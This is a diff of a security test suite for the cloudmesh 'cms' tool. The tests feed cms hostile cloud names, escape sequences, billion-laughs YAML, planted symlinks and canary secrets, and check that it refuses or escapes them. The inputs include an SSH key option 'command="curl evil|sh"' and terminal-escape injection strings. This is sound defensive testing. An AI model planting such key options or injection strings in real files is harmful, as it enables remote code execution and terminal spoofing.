@@ -2,9 +2,13 @@
 
 Each case is played as an attacker would: a cloud (moto, the Multipass fake) that returns
 hostile names and tags, a hostile or broken cloudmesh.yaml, symbolic links planted where
-cms writes, a damaged database, Ctrl-C. Every case runs the real ``cms`` as a subprocess;
-OpenSSH's own reading of a written ~/.ssh/config is checked with ``ssh -G`` (which sends
-nothing). The cases are examples of classes: each class has variants of its own.
+cms writes, a damaged database, Ctrl-C. Most cases run the ``cms`` command line in this
+process (``cms_here``: its own environment, streams and exit code, as a process sees
+them); the real ``cms`` runs as a subprocess where only a process shows it: Ctrl-C,
+processes writing one config at once, and a config whose parsing could hang (ended by a
+process time-out). OpenSSH's own reading of a written ~/.ssh/config is checked with
+``ssh -G`` (which sends nothing). The cases are examples of classes: each class has
+variants of its own.
 """
 
 from __future__ import annotations
@@ -19,6 +23,7 @@ import subprocess
 import sys
 import threading
 import time
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
@@ -26,7 +31,9 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from cloudmesh.aws.compute import USER_TAG
-from conftest import CMS, TEST_SECRET, aws_cloud_spec, ec2_client, run_cms, write_config
+from cloudmesh.compute.testing.fixtures import CmsResult
+from conftest import (CMS, TEST_SECRET, aws_cloud_spec, cms_here, ec2_client, moto_requests,
+                      run_cms, write_config)
 from fakes.multipass import harness
 
 CORPUS = Path(__file__).parent / "corpus" / "attacks"
@@ -49,7 +56,7 @@ def one_line_error(result, code: int) -> str:
 
 
 def vm_id(name: str) -> str:
-    return run_cms("vm", "info", name, "--output=json").json()["id"]
+    return cms_here("vm", "info", name, "--output=json").json()["id"]
 
 
 def tag(moto: str, instance_id: str, **tags: str) -> None:
@@ -65,7 +72,7 @@ def booted(cms_home: Path, moto: str) -> list[str]:
     rest of what reaches ~/.ssh/config (name, username tag, key) is still the VM's."""
     write_config(cms_home, {"moto": aws_cloud_spec(moto, ssh_host="127.0.0.1")},
                  default="moto")
-    result = run_cms("vm", "boot", "--name=web[1-2]", "--output=json")
+    result = cms_here("vm", "boot", "--name=web[1-2]", "--output=json")
     assert result.code == 0, result
     return ["web1", "web2"]
 
@@ -95,19 +102,19 @@ def test_escape_sequences_and_newlines_in_a_name_are_shown_escaped(booted: list[
         tag(moto, vm_id(name), Name=text)
     for output, cached in [("table", []), ("csv", []), ("table", ["--cached"]),
                            ("csv", ["--cached"])]:
-        result = run_cms("vm", "list", f"--output={output}", *cached)
+        result = cms_here("vm", "list", f"--output={output}", *cached)
         assert result.code == 0, result.err[:1500]
         assert raw_controls(result.out) == []
         lines = result.out.splitlines()
         assert len(lines) == (4 if output == "table" else 3), result.out  # no fake row
         assert "\\x9b2J\\x9b31m\\u202eevil" in result.out and "web2\\nweb9" in result.out
     # JSON and YAML keep the exact text, escaped in their own way; YAML on one line
-    listed = run_cms("vm", "list", "--output=json")
+    listed = cms_here("vm", "list", "--output=json")
     assert raw_controls(listed.out) == [] and set(evil.values()) <= {
         r["name"] for r in listed.json()}
     import yaml
 
-    listed = run_cms("vm", "list", "--output=yaml")
+    listed = cms_here("vm", "list", "--output=yaml")
     assert raw_controls(listed.out) == []
     assert not [line for line in listed.out.splitlines() if line.lstrip().startswith("web9")]
     assert set(evil.values()) <= {r["name"] for r in yaml.safe_load(listed.out)}
@@ -117,7 +124,7 @@ def test_one_line_errors_escape_what_they_quote(aws_cloud: str) -> None:
     """An error that quotes a name (or anything a cloud sent) stays one line."""
     for name, code in (("ghost\x1b[2J\nerror: fake second line", 2),  # [ opens a range
                        ("ghost\x1b)0;title\x07\rerror: fake", 2)):
-        line = one_line_error(run_cms("vm", "info", name), code)
+        line = one_line_error(cms_here("vm", "info", name), code)
         assert raw_controls(line) == [] and "error: fake" in line and "\\x1b" in line
 
 
@@ -158,7 +165,7 @@ def test_a_username_tag_cannot_write_a_config_line(booted: list[str], moto: str)
         config.write_text(USER_CONFIG)
         # the tag aws records carry the VM's login in (what vm info shows as username)
         tag(moto, vm_id("web1"), **{USER_TAG: username})
-        line = one_line_error(run_cms("ssh", "config", "add", "web1,web2"), 2)
+        line = one_line_error(cms_here("ssh", "config", "add", "web1,web2"), 2)
         assert line.startswith("error: web1: not written") and "\n" not in line
         assert ": the user '" in line, line  # the tag reached the writer, which refused it
         text = config.read_text()
@@ -176,7 +183,7 @@ def test_a_name_tag_cannot_become_a_host_pattern(booted: list[str], moto: str) -
     instance = vm_id("web1")
     for name in NAMES:
         tag(moto, instance, Name=name)
-        line = one_line_error(run_cms("ssh", "config", "add", instance), 2)
+        line = one_line_error(cms_here("ssh", "config", "add", instance), 2)
         assert ": the host name '" in line, line  # refused by the writer, not before
         assert config.read_text() == USER_CONFIG, name
     assert ssh_resolve(config, "github.com")["user"] == ["git"]
@@ -188,11 +195,11 @@ def test_an_address_must_be_an_ip_or_a_dns_name(booted: list[str]) -> None:
     config = ssh_config()
     config.write_text(USER_CONFIG)
     for address in ADDRESSES:
-        assert run_cms("set", f"moto.ssh_host={address}").code == 0
-        one_line_error(run_cms("ssh", "config", "add", "web1"), 2)
+        assert cms_here("set", f"moto.ssh_host={address}").code == 0
+        one_line_error(cms_here("ssh", "config", "add", "web1"), 2)
         assert config.read_text() == USER_CONFIG, address
-    assert run_cms("set", "moto.ssh_host=fe80::1").code == 0  # an IPv6 literal is fine
-    assert run_cms("ssh", "config", "add", "web1").code == 0
+    assert cms_here("set", "moto.ssh_host=fe80::1").code == 0  # an IPv6 literal is fine
+    assert cms_here("ssh", "config", "add", "web1").code == 0
     assert ssh_resolve(config, "web1")["hostname"] == ["fe80::1"]
 
 
@@ -208,14 +215,14 @@ def test_paths_with_a_space_and_percent_are_quoted(tmp_path: Path, moto: str,
     monkeypatch.setenv("CLOUDMESH_CONFIG_DIR", str(config_dir))
     write_config(config_dir, {"moto": aws_cloud_spec(moto, key="k", ssh_host="127.0.0.1")},
                  default="moto")
-    assert run_cms("key", "gen", "k").code == 0
-    assert run_cms("vm", "boot", "--name=web1").code == 0
-    assert run_cms("ssh", "config", "add", "web1").code == 0
+    assert cms_here("key", "gen", "k").code == 0
+    assert cms_here("vm", "boot", "--name=web1").code == 0
+    assert cms_here("ssh", "config", "add", "web1").code == 0
     resolved = ssh_resolve(home / ".ssh" / "config", "web1")
     assert resolved["userknownhostsfile"] == [str(config_dir / "known_hosts")]
     # (ssh -G shows IdentityFile before expanding its %-tokens: %% is read as %)
     assert resolved["identityfile"] == [str(config_dir / "keys" / "k").replace("%", "%%")]
-    listed = run_cms("ssh", "config", "list", "--output=json").json()
+    listed = cms_here("ssh", "config", "list", "--output=json").json()
     assert listed[0]["identityfile"] == str(config_dir / "keys" / "k")
 
 
@@ -224,11 +231,11 @@ def test_delete_removes_exactly_its_block(booted: list[str]) -> None:
     # a marker of the user's own that is not closed is the user's text, not a block
     mine = USER_CONFIG + "# >>> cms notours\nHost notours\n    User me\n"
     config.write_text(mine)
-    assert run_cms("ssh", "config", "add", "web1,web2").code == 0
-    assert run_cms("ssh", "config", "delete", "web1").code == 0
+    assert cms_here("ssh", "config", "add", "web1,web2").code == 0
+    assert cms_here("ssh", "config", "delete", "web1").code == 0
     text = config.read_text()
     assert "web1" not in text and "# >>> cms web2" in text and text.startswith(mine)
-    assert run_cms("ssh", "config", "delete", "web2").code == 0
+    assert cms_here("ssh", "config", "delete", "web2").code == 0
     assert config.read_text() == mine
 
 
@@ -241,15 +248,15 @@ def test_ssh_config_through_a_symlink_writes_the_target(booted: list[str],
     target.chmod(0o644)
     link = ssh_config()
     link.symlink_to(target)
-    assert run_cms("ssh", "config", "add", "web1").code == 0
+    assert cms_here("ssh", "config", "add", "web1").code == 0
     assert link.is_symlink() and "# >>> cms web1" in target.read_text()
     assert stat.S_IMODE(target.stat().st_mode) == 0o644  # its mode is kept
-    assert run_cms("ssh", "config", "delete", "web1").code == 0
+    assert cms_here("ssh", "config", "delete", "web1").code == 0
     assert link.is_symlink() and target.read_text() == USER_CONFIG
     # a link to nothing is refused: cms would create a file wherever it points
     link.unlink()
     link.symlink_to(tmp_path / "nowhere" / "config")
-    one_line_error(run_cms("ssh", "config", "add", "web1"), 4)
+    one_line_error(cms_here("ssh", "config", "add", "web1"), 4)
     assert not (tmp_path / "nowhere").exists()
 
 
@@ -272,7 +279,7 @@ def test_a_token_that_breaks_a_header_is_not_shown(cms_home: Path, moto: str) ->
                             (CANARY + "' \"x", (["vm", "list"],))):
         secret_config(cms_home, moto, session_token=token)
         for argv in commands:
-            result = run_cms(*argv)
+            result = cms_here(*argv)
             assert CANARY not in result.out + result.err, (argv, result)
             assert "Traceback" not in result.err or argv[0] == "--debug"
 
@@ -285,7 +292,7 @@ def test_check_masks_values_from_the_environment(cms_home: Path, moto: str) -> N
         **spec["credentials"], "endpoint_url": "http://127.0.0.1:9"}}})
     env = {"CMS_ATTACK_SECRET": TEST_SECRET, "CMS_ATTACK_TOKEN": CANARY + "\n"}
     for output in ("table", "json", "csv", "yaml"):
-        result = run_cms("check", f"--output={output}", env=env)
+        result = cms_here("check", f"--output={output}", env=env)
         text = result.out + result.err
         assert CANARY not in text and TEST_SECRET not in text, result
 
@@ -323,12 +330,12 @@ def test_secrets_by_name_at_any_depth_and_in_comments(cms_home: Path) -> None:
     path = cms_home / "cloudmesh.yaml"
     path.write_text(SECRET_NAMES_CONFIG)
     path.chmod(0o600)
-    shown = [run_cms("config", "cat")]
+    shown = [cms_here("config", "cat")]
     for key in ("cloudmesh.compute.moto.credentials", "cloudmesh.extra", "cloudmesh",
                 "cloudmesh.extra.passwords", "cloudmesh.extra.secret.value",
                 "cloudmesh.compute.moto.credentials.apikey",
                 "cloudmesh.compute.moto.credentials.passphrase"):
-        shown.append(run_cms("config", "get", key))
+        shown.append(cms_here("config", "get", key))
     for result in shown:
         assert result.code == 0, result
         leaked = [c for c in result.out.split() if "CANARY" in c]
@@ -345,7 +352,7 @@ def test_a_duplicate_key_names_the_key_never_a_value(cms_home: Path) -> None:
     (cms_home / "cloudmesh.yaml").chmod(0o600)
     for argv in (["config", "cat"], ["config", "get", "cloudmesh"], ["check"],
                  ["config", "set", "cloudmesh.x", "1"], ["vm", "list"]):
-        line = one_line_error(run_cms(*argv), 4)
+        line = one_line_error(cms_here(*argv), 4)
         assert "'password'" in line and ":6:" in line and "CANARY" not in line, line
 
 
@@ -360,7 +367,10 @@ def test_alias_expansion_is_refused_fast(cms_home: Path, argv: list[str]) -> Non
     (cms_home / "cloudmesh.yaml").chmod(0o600)
     assert len(BILLION_LAUGHS.read_bytes()) <= 717
     started = time.monotonic()
-    line = one_line_error(run_cms(*argv, timeout=30), 4)
+    # one case in a process, whose time-out ends a parser that never returns; the
+    # others in this process
+    run = (lambda *a: run_cms(*a, timeout=30)) if argv == ["config", "cat"] else cms_here
+    line = one_line_error(run(*argv), 4)
     assert time.monotonic() - started < 10
     assert "aliases" in line
 
@@ -370,7 +380,7 @@ def test_a_huge_config_is_refused(cms_home: Path) -> None:
     path = cms_home / "cloudmesh.yaml"
     path.write_text("cloudmesh:\n  profile: {user: a}\n" + "# padding\n" * 120_000)
     path.chmod(0o600)
-    assert "over the limit" in one_line_error(run_cms("config", "cat"), 4)
+    assert "over the limit" in one_line_error(cms_here("config", "cat"), 4)
 
 
 def test_a_secret_is_scrubbed_in_every_printed_form() -> None:
@@ -395,7 +405,7 @@ def test_deep_nesting_is_refused_not_a_recursion_error(cms_home: Path) -> None:
     path.write_text("cloudmesh:\n  profile: {user: a}\n  deep: " + "[" * 700 + "]" * 700 + "\n")
     path.chmod(0o600)
     for argv in (["config", "cat"], ["config", "get", "cloudmesh"]):
-        assert "nested more than" in one_line_error(run_cms(*argv), 4)
+        assert "nested more than" in one_line_error(cms_here(*argv), 4)
 
 
 # ---- 4. confirmation for destructive verbs ------------------------------------------------
@@ -407,10 +417,10 @@ class MultipassHost:
         self.env = harness.environment(
             tmp, PATH=f"{tmp / 'bin'}:{Path(sys.executable).parent}:/usr/bin:/bin")
 
-    def cms(self, *args: str, input: str = "") -> subprocess.CompletedProcess:
-        # input="": stdin is a pipe, never the terminal pytest may run on
-        return subprocess.run([CMS, *args], capture_output=True, text=True, input=input,
-                              env=self.env, cwd=self.tmp, timeout=120)
+    def cms(self, *args: str, input: str = "") -> CmsResult:
+        """cms in this process, with this host's environment (the fake multipass first
+        on PATH) and an input that is no terminal."""
+        return cms_here(*args, env=self.env, cwd=self.tmp, stdin=input)
 
     def instances(self) -> dict:
         return harness.fake_state(self.state_file)["instances"]
@@ -444,12 +454,17 @@ def test_multipass_purge_needs_yes(tmp_path: Path) -> None:
 
 
 # ---- 5. Ctrl-C ---------------------------------------------------------------------------
-def interrupt(argv: list[str], after: float, twice: bool = False) -> tuple[int, float, str]:
-    """Start cms, send SIGINT after ``after`` seconds (twice, 50 ms apart, if asked);
-    the exit code, the seconds from the first signal to the exit, and stderr."""
+def interrupt(argv: list[str], busy: Callable[[], bool],
+              twice: bool = False) -> tuple[int, float, str]:
+    """Start cms, send SIGINT once ``busy()`` says it is at work (its imports done, its
+    requests under way; twice, 50 ms apart, if asked); the exit code, the seconds from
+    the first signal to the exit, and stderr."""
     process = subprocess.Popen([CMS, *argv], stdout=subprocess.DEVNULL,
                                stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True)
-    time.sleep(after)
+    give_up = time.monotonic() + 60
+    while not busy() and process.poll() is None and time.monotonic() < give_up:
+        time.sleep(0.05)
+    time.sleep(0.2)  # well into what it is doing, not at its first step
     assert process.poll() is None, process.stderr.read()
     sent = time.monotonic()
     process.send_signal(signal.SIGINT)
@@ -466,17 +481,27 @@ def interrupt(argv: list[str], after: float, twice: bool = False) -> tuple[int, 
     return process.returncode, time.monotonic() - sent, err
 
 
-def test_ctrl_c_stops_a_wait_on_several_vms_within_a_second(booted: list[str]) -> None:
+def test_ctrl_c_stops_a_wait_on_several_vms_within_a_second(booted: list[str],
+                                                          moto: str) -> None:
     for twice in (False, True):
-        code, seconds, err = interrupt(["vm", "wait", "web1,web2", "--state=stopped",
-                                        "--timeout=60"], after=2.5, twice=twice)
+        asked = len(moto_requests(moto, "DescribeInstances"))
+        code, seconds, err = interrupt(
+            ["vm", "wait", "web1,web2", "--state=stopped", "--timeout=60"], twice=twice,
+            busy=lambda: len(moto_requests(moto, "DescribeInstances")) > asked)
         assert code == 130 and seconds < 1.0, (twice, code, seconds, err)
         assert "Traceback" not in err and "interrupted" in err
 
 
+class SilentSshd:
+    """A port that accepts connections and never says a word (an SSH server that hangs);
+    ``held`` are the connections it accepted."""
+
+    def __init__(self, port: int, held: list[socket.socket]) -> None:
+        self.port, self.held = port, held
+
+
 @pytest.fixture
-def silent_sshd() -> int:
-    """A port that accepts connections and never says a word (an SSH server that hangs)."""
+def silent_sshd() -> Iterator[SilentSshd]:
     server = socket.socket()
     server.bind(("127.0.0.1", 0))
     server.listen(16)
@@ -493,7 +518,7 @@ def silent_sshd() -> int:
 
     thread = threading.Thread(target=accept, daemon=True)
     thread.start()
-    yield server.getsockname()[1]
+    yield SilentSshd(server.getsockname()[1], held)
     stop.set()
     thread.join()
     for connection in held:
@@ -502,21 +527,24 @@ def silent_sshd() -> int:
 
 
 def test_ctrl_c_stops_ssh_to_several_vms_within_a_second(booted: list[str],
-                                                         silent_sshd: int) -> None:
-    assert run_cms("set", "moto.ssh_host=127.0.0.1", f"moto.ssh_port={silent_sshd}").code == 0
+                                                         silent_sshd: SilentSshd) -> None:
+    assert cms_here("set", "moto.ssh_host=127.0.0.1",
+                    f"moto.ssh_port={silent_sshd.port}").code == 0
     # the VMs were booted without a key: given one, cms connects (and hangs) rather than
     # refusing before any attempt
-    assert run_cms("key", "gen", "k").code == 0
+    assert cms_here("key", "gen", "k").code == 0
     for twice in (False, True):
+        connected = len(silent_sshd.held)
         code, seconds, err = interrupt(["vm", "ssh", "web1,web2", "--command=true", "--key=k"],
-                                       after=2.5, twice=twice)
+                                       busy=lambda: len(silent_sshd.held) > connected,
+                                       twice=twice)
         assert code == 130 and seconds < 1.0, (twice, code, seconds, err)
         assert "Traceback" not in err
 
 
 # ---- 6. concurrency: config set ------------------------------------------------------------
 def test_twenty_parallel_config_sets_lose_nothing(cms_home: Path) -> None:
-    assert run_cms("init", "--user=ada").code == 0
+    assert cms_here("init", "--user=ada").code == 0
     processes = [subprocess.Popen([CMS, "config", "set", f"cloudmesh.parallel.k{i}", str(i)],
                                   stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
                  for i in range(20)]
@@ -531,19 +559,19 @@ def test_twenty_parallel_config_sets_lose_nothing(cms_home: Path) -> None:
 # ---- 7. files: symlinks, modes, a damaged database ----------------------------------------
 def test_config_set_through_a_symlinked_config_writes_the_target(cms_home: Path,
                                                                  tmp_path: Path) -> None:
-    assert run_cms("init", "--user=ada").code == 0
+    assert cms_here("init", "--user=ada").code == 0
     kept = tmp_path / "kept" / "cloudmesh.yaml"
     kept.parent.mkdir()
     (cms_home / "cloudmesh.yaml").rename(kept)
     (cms_home / "cloudmesh.yaml").symlink_to(kept)
-    assert run_cms("config", "set", "cloudmesh.profile.user", "bob").code == 0
+    assert cms_here("config", "set", "cloudmesh.profile.user", "bob").code == 0
     assert (cms_home / "cloudmesh.yaml").is_symlink()
     assert "user: bob" in kept.read_text()
     assert stat.S_IMODE(kept.stat().st_mode) == 0o600
     # a link to nothing: cms init would write wherever it points, so it refuses
     (cms_home / "cloudmesh.yaml").unlink()
     (cms_home / "cloudmesh.yaml").symlink_to(tmp_path / "elsewhere.yaml")
-    assert "symbolic link" in one_line_error(run_cms("init", "--user=ada"), 4)
+    assert "symbolic link" in one_line_error(cms_here("init", "--user=ada"), 4)
     assert not (tmp_path / "elsewhere.yaml").exists()
 
 
@@ -554,7 +582,7 @@ def test_key_gen_refuses_a_planted_symlink(cms_home: Path, tmp_path: Path,
     keys.mkdir(parents=True)
     victim = tmp_path / "victim"
     (keys / planted).symlink_to(victim)  # dangling: the file it names does not exist
-    line = one_line_error(run_cms("key", "gen", "lab"), 2)
+    line = one_line_error(cms_here("key", "gen", "lab"), 2)
     assert "exists" in line
     assert not victim.exists() and sorted(p.name for p in keys.iterdir()) == [planted]
 
@@ -562,7 +590,7 @@ def test_key_gen_refuses_a_planted_symlink(cms_home: Path, tmp_path: Path,
 def test_database_and_its_wal_files_are_private(cms_home: Path) -> None:
     from cloudmesh.compute.state import State
 
-    assert run_cms("init", "--user=ada").code == 0
+    assert cms_here("init", "--user=ada").code == 0
     for path in cms_home.glob("cloudmesh.db*"):
         path.unlink()
     os.umask(0o022)
@@ -578,8 +606,17 @@ def test_database_and_its_wal_files_are_private(cms_home: Path) -> None:
     for path in files:
         if path.exists():
             path.chmod(0o644)
-    assert run_cms("set", "cloud=aws").code == 0
+    assert cms_here("set", "cloud=aws").code == 0
     assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in files if p.exists())
+
+
+def closed_as_at_exit() -> None:
+    """Close the state database an in-process command left open, as a process's exit
+    does: its State is freed only by the cycle collector, and until then its connection
+    keeps pages in the write-ahead log, where the damage below would not reach them."""
+    import gc
+
+    gc.collect()
 
 
 def damage(db: Path) -> None:
@@ -590,7 +627,8 @@ def damage(db: Path) -> None:
 
 def test_a_damaged_database_stops_a_boot_before_the_cloud(aws_cloud: str, moto: str,
                                                           cms_home: Path) -> None:
-    assert run_cms("set", "flavor=t3.micro").code == 0
+    assert cms_here("set", "flavor=t3.micro").code == 0
+    closed_as_at_exit()
     from cloudmesh.compute.state import State
 
     state = State(cms_home / "cloudmesh.db")
@@ -599,18 +637,19 @@ def test_a_damaged_database_stops_a_boot_before_the_cloud(aws_cloud: str, moto: 
     state.close()
     damage(cms_home / "cloudmesh.db")
     for argv in (["vm", "boot", "--name=web1"], ["vm", "list", "--cached"], ["set"]):
-        line = one_line_error(run_cms(*argv), 4)
+        line = one_line_error(cms_here(*argv), 4)
         assert "damaged" in line and "mv " in line, line
     reservations = ec2_client(moto).describe_instances()["Reservations"]
     assert reservations == []  # nothing was created
     (cms_home / "cloudmesh.db").rename(cms_home / "cloudmesh.db.broken")
-    assert run_cms("vm", "boot", "--name=web1").code == 0  # the way out works
+    assert cms_here("vm", "boot", "--name=web1").code == 0  # the way out works
 
 
 def test_a_database_that_is_not_one_is_a_config_error(cms_home: Path) -> None:
-    assert run_cms("init", "--user=ada").code == 0
+    assert cms_here("init", "--user=ada").code == 0
+    closed_as_at_exit()
     (cms_home / "cloudmesh.db").write_bytes(b"this is not SQLite" * 100)
-    line = one_line_error(run_cms("set", "cloud=aws"), 4)
+    line = one_line_error(cms_here("set", "cloud=aws"), 4)
     assert "mv " in line
 
 
@@ -752,9 +791,9 @@ def two_keys(tmp_path: Path) -> tuple[Path, str, str]:
 def test_a_key_file_with_a_hidden_second_key_is_refused(cms_home: Path,
                                                         tmp_path: Path) -> None:
     team, alice, _ = two_keys(tmp_path)
-    line = one_line_error(run_cms("key", "add", "team", f"--source={team}"), 2)
+    line = one_line_error(cms_here("key", "add", "team", f"--source={team}"), 2)
     assert "2 keys" in line and "--source" in line, line
-    assert run_cms("key", "list", "--output=json").json() == []
+    assert cms_here("key", "list", "--output=json").json() == []
     alone = tmp_path / "alice-only.pub"
     for text, words in ((f"root:{alice}\n", "login prefix"),
                         (f'command="curl evil|sh" {alice}\n', "options"),
@@ -762,9 +801,9 @@ def test_a_key_file_with_a_hidden_second_key_is_refused(cms_home: Path,
                         (f"{alice}\r\nssh-ed25519\n", "2 keys"),
                         (f"{alice} a\x1b]0;owned\x07\n", "control character")):
         alone.write_text(text)
-        assert words in one_line_error(run_cms("key", "add", "k", f"--source={alone}"), 2)
+        assert words in one_line_error(cms_here("key", "add", "k", f"--source={alone}"), 2)
     alone.write_text(alice + "\n")
-    assert run_cms("key", "add", "alice", f"--source={alone}").code == 0
+    assert cms_here("key", "add", "alice", f"--source={alone}").code == 0
 
 
 def test_a_tampered_registry_key_never_reaches_a_vm(tmp_path: Path) -> None:
